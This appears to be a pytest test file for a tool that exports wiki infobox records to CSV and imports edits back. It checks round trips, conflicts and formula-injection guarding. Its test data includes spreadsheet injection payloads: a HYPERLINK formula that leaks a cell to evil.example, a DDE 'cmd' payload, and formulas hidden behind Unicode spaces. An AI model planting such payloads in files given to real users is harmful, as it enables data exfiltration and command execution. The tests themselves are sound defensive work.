"""The spreadsheet round trip: pure reading and writing, and import on a mirror copy."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wikisync.cli.outcomes import error_exit_code, run_exit_code
from wikisync.core.edits import read_params, set_params
from wikisync.core.pages import PageText
from wikisync.core.schema import FieldSpec, RecordType
from wikisync.ops.collect import iter_type_pages
from wikisync.ops.publish import open_target
from wikisync.ops.sheet import SheetRow, format_sheet, parse_sheet, text_sha1
from wikisync.ops.spreadsheet import (
    SpreadsheetError,
    export_records,
    export_rows,
    import_records,
)
from wikisync.ports.source import Source

TEMPLATES = ("Event", "Evénement", "Événement")
SMALL = RecordType(
    "event",
    ("Evénement",),
    ("Event",),
    (FieldSpec("startDate", "date"), FieldSpec("place", params=("place", "Lieu"))),
)


def _read(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def _write(path: Path, rows: list[list[str]], delimiter: str = ";") -> None:
    with open(path, "w", encoding="utf-8-sig", newline="") as stream:
        csv.writer(stream, delimiter=delimiter, lineterminator="\r\n").writerows(rows)


def _texts(source: Source, record_type: RecordType) -> dict[str, str]:
    return {page.title: page.wikitext for page in iter_type_pages(source, record_type)}


# -- pure ------------------------------------------------------------------------------


def test_export_rows_keep_raw_values_of_the_alias_in_use() -> None:
    page = PageText("Atelier", "{{Event|startDate=1er mai 2019|Lieu=Lyon}}\n{{Event}}", 7)
    rows, without = export_rows([page, PageText("Vide", "texte", 8)], SMALL)
    assert without == ["Vide"]
    assert [(r.row, r.index, r.revid, dict(r.cells)) for r in rows] == [
        (2, 0, 7, {"startDate": "1er mai 2019", "place": "Lyon"}),
        (3, 1, 7, {"startDate": "", "place": ""}),
    ]
    assert rows[0].sha1 == text_sha1(page.wikitext) and len(rows[0].sha1) == 12


def test_format_then_parse_round_trips_multiline_cells() -> None:
    row = SheetRow(2, "Atelier", 0, 12, "abc", {"startDate": "2019", "place": "a\nb, c"})
    text = format_sheet([row], ["startDate", "place"])
    sheet = parse_sheet(text, SMALL)
    assert sheet.rows == (row,)
    assert sheet.letters == {"startDate": "E", "place": "F"}


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_parse_sheet_accepts_spreadsheet_program_files(delimiter: str) -> None:
    text = (
        f"\ufefftitle{delimiter}index{delimiter}revid{delimiter}place\r\n"
        f'Atelier{delimiter}0{delimiter}12{delimiter}"Lyon{delimiter} halle"\r\n'
        f"{delimiter}{delimiter}{delimiter}\r\n"
    )
    sheet = parse_sheet(text, SMALL)
    assert sheet.delimiter == delimiter
    assert [(r.title, r.sha1, dict(r.cells)) for r in sheet.rows] == [
        ("Atelier", "", {"place": f"Lyon{delimiter} halle"})
    ]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("nom,lieu\r\n", "first row should be the header"),
        ("title,revid,place\r\n", 'no "index" column'),
        ("title,index,revid,lieu\r\n", 'column D "lieu" is no field'),
        (
            "title,index,revid\r\nA,zero,1\r\n",
            'row 2, column index should be a whole number, got "zero"',
        ),
        ("title,index,revid\r\nA,0,1\r\nA,0,1\r\n", "rows 2 and 3 are both infobox 0"),
        ("title,index,revid\r\n,0,1\r\n", "row 2: the title is empty"),
    ],
)
def test_parse_sheet_refuses_what_is_no_export(text: str, message: str) -> None:
    with pytest.raises(SpreadsheetError, match=message) as caught:
        parse_sheet(text, SMALL)
    assert error_exit_code(caught.value) == 2


def test_read_sheet_refuses_non_utf8(tmp_path: Path) -> None:
    from wikisync.ops.sheet import read_sheet

    path = tmp_path / "latin1.csv"
    path.write_bytes("title,index,revid,place\r\nÉté,0,1,Lyon\r\n".encode("latin-1"))
    with pytest.raises(SpreadsheetError, match="not UTF-8"):
        read_sheet(path, SMALL)


# -- on a mirror -----------------------------------------------------------------------


def test_export_records_writes_bom_and_crlf(
    source: Source, event: RecordType, tmp_path: Path
) -> None:
    path = tmp_path / "events.csv"
    result = export_records(source, event, path, fields=["startDate", "place"])
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbftitle,index,revid,sha1,startDate,place\r\n")
    assert result.rows == len(_read(path)) - 1 and result.without_infobox


def test_import_unedited_export_changes_nothing(
    source: Source, event: RecordType, tmp_path: Path
) -> None:
    path = tmp_path / "events.csv"
    export_records(source, event, path)
    before = _texts(source, event)
    report = import_records(source, open_target(source), event, path)
    assert run_exit_code(report.outcomes()) == 0 and set(report.counts()) == {"unchanged"}
    assert _texts(source, event) == before


def test_import_writes_changed_cell_only_and_ignores_reformatted_dates(
    source: Source, event: RecordType, tmp_path: Path
) -> None:
    path = tmp_path / "events.csv"
    export_records(source, event, path)
    rows = _read(path)
    header = rows[0]
    date_column, place_column = header.index("startDate"), header.index("place")
    iso = next(r for r in rows[1:] if len(r[date_column]) == 10 and r[date_column][4] == "-")
    year, month, day = iso[date_column].split("-")
    iso[date_column] = f"{day}/{month}/{year}"  # as Excel shows a date
    rows[1][place_column] = "Halle Tony Garnier"
    _write(tmp_path / "edited.csv", rows)
    before = _texts(source, event)
    report = import_records(source, open_target(source), event, tmp_path / "edited.csv")
    assert report.counts().get("edited") == 1, report.to_dict()
    title = rows[1][0]
    old, new = (
        read_params(before[title], TEMPLATES)[0],
        read_params(_texts(source, event)[title], TEMPLATES)[0],
    )
    used = "Lieu" if old.get("Lieu") else "place"
    assert new == {**old, used: "Halle Tony Garnier"}
    (edited,) = [page for page in report.pages if page.edited]
    assert edited.rows == (2,)


def test_import_bad_cell_names_row_and_column_and_skips_page(
    source: Source, event: RecordType, tmp_path: Path
) -> None:
    path = tmp_path / "events.csv"
    export_records(source, event, path)
    rows = _read(path)
    column = rows[0].index("startDate")
    rows[2][column] = "32/13/2020"
    rows[2][rows[0].index("place")] = "Ailleurs"
    _write(tmp_path / "edited.csv", rows)
    before = _texts(source, event)
    report = import_records(source, open_target(source), event, tmp_path / "edited.csv")
    assert run_exit_code(report.outcomes()) == 3
    (invalid,) = [page for page in report.pages if page.status == "invalid"]
    assert 'row 3, column E (startDate): field "startDate" should be a date' in invalid.message
    assert _texts(source, event) == before


def test_import_skips_page_changed_since_export_unless_it_holds_the_values(
    source: Source, event: RecordType, tmp_path: Path
) -> None:
    path = tmp_path / "events.csv"
    export_records(source, event, path)
    rows = _read(path)
    column = rows[0].index("eventType")
    for row in rows[1:4]:
        row[column] = "Balade"
    _write(tmp_path / "edited.csv", rows)
    target = open_target(source)
    texts = _texts(source, event)
    # Someone edits the first page's type by hand; the second already got the value.
    first, second = rows[1][0], rows[2][0]
    for title, value in ((first, "Conférence"), (second, "Balade")):
        page = source.fetch_titles([title]).pages[0]
        new = texts[title].replace(
            f"type={read_params(texts[title], TEMPLATES)[0]['type']}", f"type={value}", 1
        )
        target.save(title, new, base=page, summary="")
    report = import_records(source, target, event, tmp_path / "edited.csv")
    statuses = {page.title: page.status for page in report.pages}
    assert statuses[first] == "conflict" and statuses[second] == "unchanged"
    assert statuses[rows[3][0]] == "edited"
    assert run_exit_code(report.outcomes()) == 3
    assert read_params(_texts(source, event)[first], TEMPLATES)[0]["type"] == "Conférence"


# -- hostile cells and rows ------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-5",
    "@SUM(A1:A9)",
    "\tcmd|' /C calc'!A0",
    "'=déjà gardé",
    "'",
    "''",
    "'texte",
    "= espace",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_guarded_on_export_and_restored_on_import(value: str) -> None:
    row = SheetRow(2, "=Titre piégé", 0, 12, "abc", {"place": value})
    text = format_sheet([row], ["place"])
    exported = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert exported[0] == "'=Titre piégé"
    assert exported[4] == "'" + value  # a spreadsheet program shows it as text
    parsed = parse_sheet(text, SMALL).rows[0]
    assert parsed.title == "=Titre piégé" and parsed.cells["place"] == value


def test_harmless_cells_are_written_as_they_are() -> None:
    row = SheetRow(2, "Atelier", 0, 12, "abc", {"place": "Lyon = ville", "startDate": ""})
    text = format_sheet([row], ["place", "startDate"])
    assert text.splitlines()[1] == "Atelier,0,12,abc,Lyon = ville,"


def test_raw_export_and_import_keep_cells_as_they_are() -> None:
    row = SheetRow(2, "Atelier", 0, 12, "abc", {"place": "=1+2"})
    text = format_sheet([row], ["place"], raw=True)
    assert text.splitlines()[1] == "Atelier,0,12,abc,=1+2"
    assert parse_sheet("title,index,revid,place\r\nA,0,1,'x\r\n", SMALL, raw=True).rows[
        0
    ].cells == {"place": "'x"}


@given(st.lists(st.text(st.characters(blacklist_characters="\r"), max_size=40), max_size=4))
@settings(max_examples=200, deadline=None)
def test_fuzz_any_cell_text_survives_export_then_import(values: list[str]) -> None:
    # (A carriage return never reaches a cell: MediaWiki stores \n line ends.)
    fields = ("startDate", "place")
    rows = [
        SheetRow(
            number + 2, f"Page {number}", 0, 1, "", dict(zip(fields, (v, v[::-1]), strict=True))
        )
        for number, v in enumerate(values)
    ]
    for delimiter in (",", ";"):
        text = format_sheet(rows, fields, delimiter=delimiter)
        parsed = parse_sheet(text, SMALL).rows
        assert [dict(r.cells) for r in parsed] == [
            dict(r.cells) for r in rows if any(c.strip() for c in (r.title, *r.cells.values()))
        ]


@pytest.mark.parametrize(
    ("line", "cells"),
    [("Atelier,0,12", 3), ("Atelier,0,12,abc,Lyon,en trop", 6), ("Atelier", 1)],
)
def test_short_or_long_row_is_refused_naming_the_row(line: str, cells: int) -> None:
    text = f"title,index,revid,sha1,place\r\nBon,0,1,,Lyon\r\n{line}\r\n"
    with pytest.raises(SpreadsheetError, match=f"row 3 has {cells} cells but the header has 5"):
        parse_sheet(text, SMALL)


def test_cells_longer_than_the_csv_module_limit_are_read() -> None:
    big = "Très long compte rendu. " * 12_000  # 288,000 characters
    assert len(big) > 131_072
    row = SheetRow(2, "Atelier", 0, 12, "abc", {"place": big})
    assert parse_sheet(format_sheet([row], ["place"]), SMALL).rows[0].cells["place"] == big


def test_import_of_a_short_row_saves_nothing_on_the_mirror(
    source: Source, event: RecordType, tmp_path: Path
) -> None:
    path = tmp_path / "events.csv"
    export_records(source, event, path)
    rows = _read(path)
    rows[1][rows[0].index("place")] = "Halle Tony Garnier"  # a real change on row 2…
    rows[3] = rows[3][:5]  # …and a row cut short (its last fields would be blanked)
    _write(tmp_path / "edited.csv", rows)
    before = _texts(source, event)
    with pytest.raises(SpreadsheetError, match="row 4 has 5 cells") as caught:
        import_records(source, open_target(source), event, tmp_path / "edited.csv")
    assert error_exit_code(caught.value) == 2 and caught.value.row == 4
    assert _texts(source, event) == before


def test_a_planted_formula_on_a_page_is_guarded_and_the_round_trip_changes_nothing(
    source: Source, event: RecordType, tmp_path: Path
) -> None:
    title = next(iter(_texts(source, event)))
    page = source.fetch_titles([title]).pages[0]
    formula = '=HYPERLINK("http://evil.example","x")'
    used = "Lieu" if "Lieu" in read_params(page.wikitext, TEMPLATES)[0] else "place"
    planted = set_params(page.wikitext, TEMPLATES, {used: formula}, title=title).wikitext
    params = read_params(planted, TEMPLATES)[0]
    assert params[used] == formula
    open_target(source).save(title, planted, base=page, summary="")
    path = tmp_path / "events.csv"
    export_records(source, event, path)
    rows = _read(path)
    (row,) = [r for r in rows if r[0] == title and r[1] == "0"]
    cell = row[rows[0].index("place")]
    assert cell == "'" + formula
    before = _texts(source, event)
    report = import_records(source, open_target(source), event, path)
    assert set(report.counts()) == {"unchanged"}
    assert _texts(source, event) == before


def test_a_huge_first_line_is_one_clear_error() -> None:
    with pytest.raises(SpreadsheetError, match="the first row should be the header"):
        parse_sheet("x" * 300_000 + "\r\nA,0,1\r\n", SMALL)


_SHEET_PIECES = st.sampled_from(
    ["title", "index", "revid", "sha1", "place", "startDate", ",", ";", "\t", '"', "'", "=",
     "\r\n", "\n", "\r", "0", "-1", "12", "é", " ", "\x00", "\ufeff", "x" * 50]
)  # fmt: skip


@given(st.lists(_SHEET_PIECES | st.text(max_size=5), max_size=60).map("".join))
@settings(max_examples=300, deadline=None)
def test_fuzz_any_text_is_a_sheet_or_one_spreadsheet_error(text: str) -> None:
    header = "title,index,revid,sha1,place\r\n"
    for candidate in (text, header + text):
        try:
            sheet = parse_sheet(candidate, SMALL)
        except SpreadsheetError as exc:
            assert "\n" not in str(exc)
        else:
            assert all(row.title and row.index >= 0 and row.revid >= 0 for row in sheet.rows)


# -- issue 18 item 13: formulas behind Unicode spaces or written with fullwidth signs

HIDDEN_FORMULAS = [
    '\u00a0=HYPERLINK("http://evil.example","x")',
    "\u202f+33 6 12",
    "\u2007-5",
    "\u3000@SUM(A1)",
    "\u2003\u00a0=1+2",
    "\u200b=1+2",
    "\ufeff=1+2",
    " =1+2",
    "\n=1+2",
    '\uff1dHYPERLINK("http://evil.example")',
    "\uff0b33",
    "\uff0d5",
    "\uff20SUM(A1)",
    "\u00a0\uff1d1+2",
    "\u2212 5",
    "\ufe661+2",
]


@pytest.mark.parametrize("value", HIDDEN_FORMULAS)
def test_formula_cells_behind_unicode_spaces_are_guarded_and_round_trip(value: str) -> None:
    row = SheetRow(2, "\uff1dTitre", 0, 12, "abc", {"place": value})
    text = format_sheet([row], ["place"])
    exported = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert exported[0] == "'\uff1dTitre"
    assert exported[4] == "'" + value
    parsed = parse_sheet(text, SMALL).rows[0]
    assert parsed.title == "\uff1dTitre"
    assert parsed.cells["place"] == value


@pytest.mark.parametrize("value", ["\u00a0Lyon", "Lyon\u00a0=", "\u00a0", "\u202f5 km", "a\uff1d"])
def test_cells_with_unicode_spaces_but_no_formula_are_left_alone(value: str) -> None:
    row = SheetRow(2, "Atelier", 0, 12, "abc", {"place": value})
    exported = list(csv.reader(io.StringIO(format_sheet([row], ["place"]), newline="")))[1]
    assert exported[4] == value
    assert parse_sheet(format_sheet([row], ["place"]), SMALL).rows[0].cells["place"] == value
